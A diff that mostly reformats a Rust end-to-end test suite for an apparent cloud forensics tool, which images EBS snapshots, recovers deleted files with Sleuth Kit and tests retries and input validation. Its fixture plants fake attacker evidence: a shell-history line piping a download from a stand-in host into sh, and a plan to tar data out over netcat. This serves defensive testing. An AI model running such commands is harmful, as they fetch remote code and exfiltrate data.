@@ -30,24 +30,48 @@ fn ext4_image() -> Result<Image> {
     let root = dir.path().join("root");
     std::fs::create_dir_all(root.join("home/attacker"))?;
     std::fs::create_dir_all(root.join("var/tmp/.x"))?;
-    std::fs::write(root.join("etc-passwd"), b"root:x:0:0:root:/root:/bin/bash\n")?;
-    std::fs::write(root.join("home/attacker/.bash_history"), b"curl http://evil.example/x | sh\n")?;
+    std::fs::write(
+        root.join("etc-passwd"),
+        b"root:x:0:0:root:/root:/bin/bash\n",
+    )?;
+    std::fs::write(
+        root.join("home/attacker/.bash_history"),
+        b"curl http://evil.example/x | sh\n",
+    )?;
     let deleted_body = b"exfil plan: tar /srv | nc 203.0.113.9 443\n".to_vec();
     std::fs::write(root.join("home/attacker/plan.txt"), &deleted_body)?;
     let mut big = vec![0u8; 64 << 20];
     std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom")?, &mut big)?;
     std::fs::write(root.join("var/tmp/.x/payload.bin"), &big)?;
     let path = dir.path().join("disk.img");
-    run_ok(Command::new("mkfs.ext4").args(["-q", "-F", "-d"]).arg(&root).arg(&path).arg("1G"))
-        .context("mkfs.ext4 (apt-get install e2fsprogs)")?;
-    let stat = run_ok(Command::new("debugfs").args(["-R", "stat /home/attacker/plan.txt"]).arg(&path))?;
+    run_ok(
+        Command::new("mkfs.ext4")
+            .args(["-q", "-F", "-d"])
+            .arg(&root)
+            .arg(&path)
+            .arg("1G"),
+    )
+    .context("mkfs.ext4 (apt-get install e2fsprogs)")?;
+    let stat = run_ok(
+        Command::new("debugfs")
+            .args(["-R", "stat /home/attacker/plan.txt"])
+            .arg(&path),
+    )?;
     let deleted_inode = String::from_utf8_lossy(&stat.stdout)
         .lines()
-        .find_map(|l| l.strip_prefix("Inode: ").and_then(|r| r.split_whitespace().next()).map(str::to_owned))
+        .find_map(|l| {
+            l.strip_prefix("Inode: ")
+                .and_then(|r| r.split_whitespace().next())
+                .map(str::to_owned)
+        })
         .context("debugfs stat printed no inode")?;
     // debugfs unlinks and frees without zeroing the inode's extents, as a deletion in a crashed
     // or snapshotted system leaves them.
-    run_ok(Command::new("debugfs").args(["-w", "-R", "rm /home/attacker/plan.txt"]).arg(&path))?;
+    run_ok(
+        Command::new("debugfs")
+            .args(["-w", "-R", "rm /home/attacker/plan.txt"])
+            .arg(&path),
+    )?;
     Ok(Image {
         _dir: dir,
         path,
@@ -90,13 +114,17 @@ fn to(s3: &S3Server) -> String {
 fn decompress_to(compressed: &[u8], out: &Path) -> Result<()> {
     let packed = out.with_extension("zst");
     std::fs::write(&packed, compressed)?;
-    run_ok(Command::new("zstd").args(["-d", "-q", "-f", "-o"]).arg(out).arg(&packed))?;
+    run_ok(
+        Command::new("zstd")
+            .args(["-d", "-q", "-f", "-o"])
+            .arg(out)
+            .arg(&packed),
+    )?;
     std::fs::remove_file(&packed)?;
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
 fn round_trip_through_the_ebs_direct_apis_with_sleuth_kit() -> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let garage = S3Server::start(ServerKind::Garage)?;
@@ -104,8 +132,18 @@ fn round_trip_through_the_ebs_direct_apis_with_sleuth_kit() -> Result<()> {
     let ebs = Ebs::on(&moto)?;
     // Pages of 100 blocks: the 64 MiB file alone is 128 blocks.
     std::fs::write(ssm_output(&moto)?.join("ebs-page-size"), "100")?;
-    let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE), ("airf:instance", INSTANCE)], None, true)?;
-    ensure!(planted.written.len() > 100, "only {} blocks planted", planted.written.len());
+    let planted = ebs.plant(
+        &image.path,
+        1,
+        &[("airf:case", CASE), ("airf:instance", INSTANCE)],
+        None,
+        true,
+    )?;
+    ensure!(
+        planted.written.len() > 100,
+        "only {} blocks planted",
+        planted.written.len()
+    );
 
     let run = run_agent(agent(&moto, &garage)?.arg(&planted.id).args([
         "--to",
@@ -118,25 +156,57 @@ fn round_trip_through_the_ebs_direct_apis_with_sleuth_kit() -> Result<()> {
         "5MiB",
         "--json",
     ]))?;
-    ensure!(run.code == 0 && run.json["status"] == "complete", "agent failed: {run:?}");
-    let src = &run.json["sources"][0];
-    let image_key = src["image"]["key"].as_str().context("image key")?.to_owned();
-    let manifest_key = src["manifest"]["key"].as_str().context("manifest key")?.to_owned();
     ensure!(
-        image_key.starts_with(&format!("snapshots/{CASE}/{INSTANCE}/")) && image_key.ends_with(&format!("/{}.raw.zst", planted.id)),
+        run.code == 0 && run.json["status"] == "complete",
+        "agent failed: {run:?}"
+    );
+    let src = &run.json["sources"][0];
+    let image_key = src["image"]["key"]
+        .as_str()
+        .context("image key")?
+        .to_owned();
+    let manifest_key = src["manifest"]["key"]
+        .as_str()
+        .context("manifest key")?
+        .to_owned();
+    ensure!(
+        image_key.starts_with(&format!("snapshots/{CASE}/{INSTANCE}/"))
+            && image_key.ends_with(&format!("/{}.raw.zst", planted.id)),
         "{image_key}"
     );
 
     let manifest: Value = serde_json::from_slice(&garage.get(&manifest_key)?)?;
     let source = &manifest["source"];
-    ensure!(manifest["kind"] == "disk" && source["type"] == "snapshot", "{manifest}");
+    ensure!(
+        manifest["kind"] == "disk" && source["type"] == "snapshot",
+        "{manifest}"
+    );
     ensure!(source["snapshot_id"] == planted.id.as_str(), "{source}");
-    ensure!(source["volume_id"] == ebs.volume_of(&planted.id)?.as_str(), "{source}");
-    ensure!(source["instance_id"] == INSTANCE && source["region"] == "us-east-1", "{source}");
-    ensure!(source["volume_size_gib"] == 1 && source["volume_size"] == 1u64 << 30, "{source}");
-    ensure!(source["block_size"] == BLOCK && source["listed_blocks"] == planted.written.len(), "{source}");
-    ensure!(source["reads"]["blocks_read"] == planted.written.len() && source["reads"]["list_pages"].as_u64() >= Some(2), "{source}");
-    ensure!(source["start_time"].is_string() && source["encrypted"] == false, "{source}");
+    ensure!(
+        source["volume_id"] == ebs.volume_of(&planted.id)?.as_str(),
+        "{source}"
+    );
+    ensure!(
+        source["instance_id"] == INSTANCE && source["region"] == "us-east-1",
+        "{source}"
+    );
+    ensure!(
+        source["volume_size_gib"] == 1 && source["volume_size"] == 1u64 << 30,
+        "{source}"
+    );
+    ensure!(
+        source["block_size"] == BLOCK && source["listed_blocks"] == planted.written.len(),
+        "{source}"
+    );
+    ensure!(
+        source["reads"]["blocks_read"] == planted.written.len()
+            && source["reads"]["list_pages"].as_u64() >= Some(2),
+        "{source}"
+    );
+    ensure!(
+        source["start_time"].is_string() && source["encrypted"] == false,
+        "{source}"
+    );
     ensure!(source["tags"].to_string().contains(INSTANCE), "{source}");
     ensure!(manifest["raw"]["size"] == 1u64 << 30, "{manifest}");
 
@@ -144,27 +214,58 @@ fn round_trip_through_the_ebs_direct_apis_with_sleuth_kit() -> Result<()> {
     let work = tempfile::tempdir()?;
     let restored = work.path().join("restored.img");
     decompress_to(&garage.get(&image_key)?, &restored)?;
-    ensure!(sha256_file(&restored)? == sha256_file(&image.path)?, "the restored volume differs from the planted image");
-    ensure!(manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(), "{manifest}");
+    ensure!(
+        sha256_file(&restored)? == sha256_file(&image.path)?,
+        "the restored volume differs from the planted image"
+    );
+    ensure!(
+        manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(),
+        "{manifest}"
+    );
     let listing = airf_e2e::fls(&restored)?;
-    for path in ["home/attacker/.bash_history", "var/tmp/.x/payload.bin", "etc-passwd"] {
-        ensure!(listing.contains(path), "fls does not list {path}:\n{listing}");
+    for path in [
+        "home/attacker/.bash_history",
+        "var/tmp/.x/payload.bin",
+        "etc-passwd",
+    ] {
+        ensure!(
+            listing.contains(path),
+            "fls does not list {path}:\n{listing}"
+        );
     }
     ensure!(
-        listing.lines().any(|l| l.contains(&format!("* {}:", image.deleted_inode)) && l.ends_with("home/attacker/plan.txt")),
+        listing
+            .lines()
+            .any(|l| l.contains(&format!("* {}:", image.deleted_inode))
+                && l.ends_with("home/attacker/plan.txt")),
         "fls does not list the deleted file:\n{listing}"
     );
-    let icat = run_ok(Command::new("icat").arg(&restored).arg(&image.deleted_inode))?;
-    ensure!(icat.stdout == image.deleted_body, "icat recovered {:?}", String::from_utf8_lossy(&icat.stdout));
+    let icat = run_ok(
+        Command::new("icat")
+            .arg(&restored)
+            .arg(&image.deleted_inode),
+    )?;
+    ensure!(
+        icat.stdout == image.deleted_body,
+        "icat recovered {:?}",
+        String::from_utf8_lossy(&icat.stdout)
+    );
 
-    let verify = run_agent(garage.command(agent_bin()?).args(["verify", &format!("s3://{}/{manifest_key}", garage.bucket), "--json"]))?;
-    ensure!(verify.code == 0 && verify.json["verdict"] == "intact", "verify: {verify:?}");
+    let verify = run_agent(garage.command(agent_bin()?).args([
+        "verify",
+        &format!("s3://{}/{manifest_key}", garage.bucket),
+        "--json",
+    ]))?;
+    ensure!(
+        verify.code == 0 && verify.json["verdict"] == "intact",
+        "verify: {verify:?}"
+    );
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
-fn a_block_that_never_matches_its_checksum_fails_naming_it_and_one_that_heals_is_reread() -> Result<()> {
+fn a_block_that_never_matches_its_checksum_fails_naming_it_and_one_that_heals_is_reread()
+-> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let image = ext4_image()?;
     let ebs = Ebs::on(&moto)?;
@@ -172,64 +273,151 @@ fn a_block_that_never_matches_its_checksum_fails_naming_it_and_one_that_heals_is
     let bad = *planted.written.get(3).context("a fourth block")?;
 
     // Corrupted on every read: the run fails, names the block, and stores nothing.
-    faults(&moto, &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 10] }))?;
-    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args(["--to", &to(&moto), "--case", CASE, "--part-size", "5MiB", "--json"]))?;
-    let error = run.json["sources"][0]["error"].as_str().unwrap_or("").to_owned();
+    faults(
+        &moto,
+        &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 10] }),
+    )?;
+    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args([
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--part-size",
+        "5MiB",
+        "--json",
+    ]))?;
+    let error = run.json["sources"][0]["error"]
+        .as_str()
+        .unwrap_or("")
+        .to_owned();
     ensure!(run.code == 1 && run.json["status"] == "failed", "{run:?}");
     let offset = bad * BLOCK as u64;
     ensure!(
-        error.contains(&format!("block {bad} (bytes {offset}..")) && error.contains("does not match the x-amz-Checksum"),
+        error.contains(&format!("block {bad} (bytes {offset}.."))
+            && error.contains("does not match the x-amz-Checksum"),
         "{error}"
     );
-    ensure!(moto.keys("snapshots/")?.is_empty(), "something was stored: {:?}", moto.keys("snapshots/")?);
+    ensure!(
+        moto.keys("snapshots/")?.is_empty(),
+        "something was stored: {:?}",
+        moto.keys("snapshots/")?
+    );
     ensure!(moto.open_uploads()?.is_empty(), "an upload was left open");
 
     // Corrupted once (a bad transfer): read again, and the image is right.
-    faults(&moto, &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 1] }))?;
-    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args(["--to", &to(&moto), "--case", CASE, "--part-size", "5MiB", "--json"]))?;
+    faults(
+        &moto,
+        &serde_json::json!({ format!("ebs:GetSnapshotBlock:{bad}"): ["CorruptBlock", 1] }),
+    )?;
+    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args([
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--part-size",
+        "5MiB",
+        "--json",
+    ]))?;
     ensure!(run.code == 0, "{run:?}");
-    let manifest: Value = serde_json::from_slice(&moto.get(run.json["sources"][0]["manifest"]["key"].as_str().context("manifest")?)?)?;
-    ensure!(manifest["source"]["reads"]["checksum_retries"] == 1, "{manifest}");
-    ensure!(manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(), "{manifest}");
+    let manifest: Value = serde_json::from_slice(
+        &moto.get(
+            run.json["sources"][0]["manifest"]["key"]
+                .as_str()
+                .context("manifest")?,
+        )?,
+    )?;
+    ensure!(
+        manifest["source"]["reads"]["checksum_retries"] == 1,
+        "{manifest}"
+    );
+    ensure!(
+        manifest["raw"]["sha256"] == sha256_file(&image.path)?.as_str(),
+        "{manifest}"
+    );
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
 fn throttling_and_server_error_bursts_are_retried_and_the_image_is_right() -> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let image = ext4_image()?;
     let ebs = Ebs::on(&moto)?;
     let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
     let want = sha256_file(&image.path)?;
-    for (code, times) in [("RequestThrottledException", 40), ("InternalServerException", 40)] {
-        faults(&moto, &serde_json::json!({ "ebs:GetSnapshotBlock": [code, times], "ebs:ListSnapshotBlocks": [code, 3] }))?;
-        let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args(["--to", &to(&moto), "--case", CASE, "--part-size", "5MiB", "--json"]))?;
+    for (code, times) in [
+        ("RequestThrottledException", 40),
+        ("InternalServerException", 40),
+    ] {
+        faults(
+            &moto,
+            &serde_json::json!({ "ebs:GetSnapshotBlock": [code, times], "ebs:ListSnapshotBlocks": [code, 3] }),
+        )?;
+        let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args([
+            "--to",
+            &to(&moto),
+            "--case",
+            CASE,
+            "--part-size",
+            "5MiB",
+            "--json",
+        ]))?;
         ensure!(run.code == 0, "{code}: {run:?}");
-        let manifest: Value = serde_json::from_slice(&moto.get(run.json["sources"][0]["manifest"]["key"].as_str().context("manifest")?)?)?;
-        ensure!(manifest["raw"]["sha256"] == want.as_str(), "{code}: {manifest}");
-        let left: Value = serde_json::from_str(&std::fs::read_to_string(ssm_output(&moto)?.join("faults.json"))?)?;
-        ensure!(left["ebs:GetSnapshotBlock"][1] == 0 && left["ebs:ListSnapshotBlocks"][1] == 0, "{code}: faults not all served: {left}");
+        let manifest: Value = serde_json::from_slice(
+            &moto.get(
+                run.json["sources"][0]["manifest"]["key"]
+                    .as_str()
+                    .context("manifest")?,
+            )?,
+        )?;
+        ensure!(
+            manifest["raw"]["sha256"] == want.as_str(),
+            "{code}: {manifest}"
+        );
+        let left: Value = serde_json::from_str(&std::fs::read_to_string(
+            ssm_output(&moto)?.join("faults.json"),
+        )?)?;
+        ensure!(
+            left["ebs:GetSnapshotBlock"][1] == 0 && left["ebs:ListSnapshotBlocks"][1] == 0,
+            "{code}: faults not all served: {left}"
+        );
     }
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
 fn a_pending_snapshot_is_waited_for_and_one_that_stays_pending_is_refused() -> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let image = ext4_image()?;
     let ebs = Ebs::on(&moto)?;
     let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, false)?;
 
-    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args(["--to", &to(&moto), "--case", CASE, "--wait-timeout", "2", "--json"]))?;
+    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args([
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--wait-timeout",
+        "2",
+        "--json",
+    ]))?;
     let error = run.json["errors"].to_string();
-    ensure!(run.code == 1 && error.contains("is still pending") && error.contains("--wait-timeout"), "{run:?}");
+    ensure!(
+        run.code == 1 && error.contains("is still pending") && error.contains("--wait-timeout"),
+        "{run:?}"
+    );
     ensure!(moto.keys("snapshots/")?.is_empty(), "something was stored");
 
     let child = agent(&moto, &moto)?
         .arg(&planted.id)
-        .args(["--to", &to(&moto), "--case", CASE, "--wait-timeout", "120", "--json"])
+        .args([
+            "--to",
+            &to(&moto),
+            "--case",
+            CASE,
+            "--wait-timeout",
+            "120",
+            "--json",
+        ])
         .stdout(std::process::Stdio::piped())
         .stderr(std::process::Stdio::piped())
         .spawn()?;
@@ -237,26 +425,54 @@ fn a_pending_snapshot_is_waited_for_and_one_that_stays_pending_is_refused() -> R
     ebs.complete(&planted.id, planted.written.len())?;
     let run = airf_e2e::AgentRun::from_output(&child.wait_with_output()?);
     ensure!(run.code == 0 && run.json["status"] == "complete", "{run:?}");
-    ensure!(run.stderr.contains(&format!("{} is pending", planted.id)), "no word of the wait: {}", run.stderr);
+    ensure!(
+        run.stderr.contains(&format!("{} is pending", planted.id)),
+        "no word of the wait: {}",
+        run.stderr
+    );
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
 fn unknown_refused_and_malformed_snapshots_fail_clearly_and_store_nothing() -> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let image = ext4_image()?;
     let ebs = Ebs::on(&moto)?;
     let planted = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
 
-    let run = run_agent(agent(&moto, &moto)?.args(["snap-0123456789abcdef0", "--to", &to(&moto), "--case", CASE, "--json"]))?;
-    ensure!(run.code == 1 && run.json["errors"].to_string().contains("snap-0123456789abcdef0 was not found in us-east-1"), "{run:?}");
+    let run = run_agent(agent(&moto, &moto)?.args([
+        "snap-0123456789abcdef0",
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--json",
+    ]))?;
+    ensure!(
+        run.code == 1
+            && run.json["errors"]
+                .to_string()
+                .contains("snap-0123456789abcdef0 was not found in us-east-1"),
+        "{run:?}"
+    );
 
-    faults(&moto, &serde_json::json!({ "ebs:ListSnapshotBlocks": ["AccessDeniedException", 1] }))?;
-    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args(["--to", &to(&moto), "--case", CASE, "--json"]))?;
+    faults(
+        &moto,
+        &serde_json::json!({ "ebs:ListSnapshotBlocks": ["AccessDeniedException", 1] }),
+    )?;
+    let run = run_agent(agent(&moto, &moto)?.arg(&planted.id).args([
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--json",
+    ]))?;
     let errors = run.json["errors"].to_string();
     ensure!(
-        run.code == 1 && errors.contains("ebs:ListSnapshotBlocks") && errors.contains("AccessDeniedException") && errors.contains("kms:Decrypt"),
+        run.code == 1
+            && errors.contains("ebs:ListSnapshotBlocks")
+            && errors.contains("AccessDeniedException")
+            && errors.contains("kms:Decrypt"),
         "{run:?}"
     );
     ensure!(moto.keys("snapshots/")?.is_empty(), "something was stored");
@@ -264,21 +480,34 @@ fn unknown_refused_and_malformed_snapshots_fail_clearly_and_store_nothing() -> R
     for args in [
         vec!["snap-XYZ"],
         vec![planted.id.as_str(), planted.id.as_str()],
-        vec![planted.id.as_str(), "snap-0123456789abcdef0", "--baseline", "snap-0123456789abcdef1"],
+        vec![
+            planted.id.as_str(),
+            "snap-0123456789abcdef0",
+            "--baseline",
+            "snap-0123456789abcdef1",
+        ],
         vec![planted.id.as_str(), "--baseline", planted.id.as_str()],
         vec![planted.id.as_str(), "--instance", "../etc"],
         vec![planted.id.as_str(), "--role-arn", "AirfSnapshotReader"],
         vec![planted.id.as_str(), "--max-block-rate", "1001"],
         vec![planted.id.as_str(), "--wait-timeout", "0"],
     ] {
-        let run = run_agent(agent(&moto, &moto)?.args(&args).args(["--to", &to(&moto), "--case", CASE, "--json"]))?;
-        ensure!(run.code == 2, "{args:?} was not refused as bad usage: {run:?}");
+        let run = run_agent(agent(&moto, &moto)?.args(&args).args([
+            "--to",
+            &to(&moto),
+            "--case",
+            CASE,
+            "--json",
+        ]))?;
+        ensure!(
+            run.code == 2,
+            "{args:?} was not refused as bad usage: {run:?}"
+        );
     }
     Ok(())
 }
 
 #[test]
-#[expect(clippy::indexing_slicing, reason = "serde_json::Value indexing yields Null, it never panics")]
 fn a_baseline_lists_exactly_the_blocks_changed_since() -> Result<()> {
     let moto = S3Server::start(ServerKind::Moto)?;
     let image = ext4_image()?;
@@ -286,7 +515,13 @@ fn a_baseline_lists_exactly_the_blocks_changed_since() -> Result<()> {
     let nightly = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
     // The incident's snapshot: the nightly's blocks, then writes over some and new ones.
     let empty = tempfile::NamedTempFile::new()?;
-    let incident = ebs.plant(empty.path(), 1, &[("airf:case", CASE)], Some(&nightly.id), false)?;
+    let incident = ebs.plant(
+        empty.path(),
+        1,
+        &[("airf:case", CASE)],
+        Some(&nightly.id),
+        false,
+    )?;
     let rewritten = *nightly.written.first().context("a written block")?;
     let mut changed = vec![rewritten, 1000, 1001, 1500];
     for &i in &changed {
@@ -295,11 +530,30 @@ fn a_baseline_lists_exactly_the_blocks_changed_since() -> Result<()> {
     ebs.complete(&incident.id, changed.len())?;
     changed.sort_unstable();
 
-    let run = run_agent(agent(&moto, &moto)?.arg(&incident.id).args(["--baseline", &nightly.id, "--to", &to(&moto), "--case", CASE, "--part-size", "5MiB", "--json"]))?;
+    let run = run_agent(agent(&moto, &moto)?.arg(&incident.id).args([
+        "--baseline",
+        &nightly.id,
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--part-size",
+        "5MiB",
+        "--json",
+    ]))?;
     ensure!(run.code == 0, "{run:?}");
-    let manifest: Value = serde_json::from_slice(&moto.get(run.json["sources"][0]["manifest"]["key"].as_str().context("manifest")?)?)?;
+    let manifest: Value = serde_json::from_slice(
+        &moto.get(
+            run.json["sources"][0]["manifest"]["key"]
+                .as_str()
+                .context("manifest")?,
+        )?,
+    )?;
     let baseline = &manifest["source"]["baseline"];
-    ensure!(baseline["baseline_snapshot_id"] == nightly.id.as_str() && baseline["changed_blocks"] == 4, "{baseline}");
+    ensure!(
+        baseline["baseline_snapshot_id"] == nightly.id.as_str() && baseline["changed_blocks"] == 4,
+        "{baseline}"
+    );
     let listed: Vec<u64> = baseline["ranges"]
         .as_array()
         .context("ranges")?
@@ -309,11 +563,25 @@ fn a_baseline_lists_exactly_the_blocks_changed_since() -> Result<()> {
             s..s + n
         })
         .collect();
-    ensure!(listed == changed, "changed blocks {listed:?}, planted {changed:?}");
+    ensure!(
+        listed == changed,
+        "changed blocks {listed:?}, planted {changed:?}"
+    );
 
     // A snapshot of another volume is no baseline.
     let other = ebs.plant(&image.path, 1, &[("airf:case", CASE)], None, true)?;
-    let run = run_agent(agent(&moto, &moto)?.arg(&incident.id).args(["--baseline", &other.id, "--to", &to(&moto), "--case", CASE, "--json"]))?;
-    ensure!(run.code == 1 && run.json["errors"].to_string().contains("same volume"), "{run:?}");
+    let run = run_agent(agent(&moto, &moto)?.arg(&incident.id).args([
+        "--baseline",
+        &other.id,
+        "--to",
+        &to(&moto),
+        "--case",
+        CASE,
+        "--json",
+    ]))?;
+    ensure!(
+        run.code == 1 && run.json["errors"].to_string().contains("same volume"),
+        "{run:?}"
+    );
     Ok(())
 }
